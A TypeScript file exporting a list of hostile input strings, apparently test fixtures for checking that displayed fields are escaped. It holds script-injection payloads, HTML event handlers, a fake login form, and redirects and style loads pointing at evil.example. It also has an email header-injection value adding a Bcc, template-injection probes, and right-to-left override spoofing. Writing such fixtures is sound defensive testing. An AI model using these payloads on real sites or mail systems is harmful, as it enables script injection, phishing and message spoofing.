/**
 * Texts that run as code, or change the order of their neighbours, where a page, a mail or a header takes them for more
 * than text. Each goes through every field that people see; all fit a short text field.
 */
export const HOSTILE_TEXTS: Readonly<Record<string, string>> = {
  'a script': '<script>document.title="owned"</script>',
  'a script that closes what it stands in': '</p></style></script></title><script>document.title="owned"</script>',
  'an image with a handler': '<img src=x onerror="document.title=\'owned\'">',
  'a drawing with a handler': '<svg/onload=document.title="owned"><animate onbegin=document.title="owned">',
  'a handler behind a quote': '" autofocus onfocus="document.title=\'owned\'" x="',
  'a handler behind an apostrophe': "' onmouseover='document.title=`owned`' x='",
  'a frame': '<iframe srcdoc="<script>parent.document.title=1</script>"></iframe>',
  'an address that runs': 'javascript:document.title="owned"',
  'a form': '<form action="https://evil.example"><input name="p"><button>Log in</button></form>',
  'a base and a redirect':
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=https://evil.example">',
  'a style sheet': '</style><style>*{display:none!important}body{background:url(https://evil.example/x)}</style>',
  'a style': '";}</style>*{color:red}; position:fixed;inset:0;background:url(//evil.example)',
  'a comment that swallows the rest': '<!-- --!> <!--',
  'a character section': ']]><![CDATA[<script>document.title="owned"</script>',
  'entities that are text': '&lt;script&gt;&#60;b&#62;&amp;amp; &copy',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the text must stay as it is.
  'a template': '{{constructor.constructor("alert(1)")()}} ${7*7} <%= 7*7 %> #{7*7}',
  'the right-to-left override': 'PAID \u202e00.0 :LATOT\u202c \u2066\u202egnihtyna',
  'direction marks that are left open': '\u202b\u202a\u2067\u2068\u202dtext',
  'controls and invisible characters':
    'a\u0001b\u0008c\u001b[31md\u007fe\u0085f\u200bg\u200dh\ufeffi\u00adj\u2028k\u2029l',
  'what stands between the values and rows of a commit': '"\u001e"\u001e",\\"),(\\',
  'header lines': 'x\r\nBcc: all@evil.example\r\nContent-Type: text/html\r\n\r\n<b>owned</b>',
  'piled up accents': `a${'\u0300\u0316\u034f\u0489'.repeat(40)}`,
  'one long word': 'W'.repeat(255),
  'a long word of another script': 'ﷺ'.repeat(120),
  'blank lines': `a${'\n'.repeat(60)}b`,
  'Arabic and Hebrew': 'توصيل إلى شارع الملك فيصل رقم 12 — משלוח עד הבית (3)',
  'characters outside the first plane': '🏴󠁧󠁢󠁥󠁮󠁧󠁿👨‍👩‍👧‍👦𝕏𠜎',
};
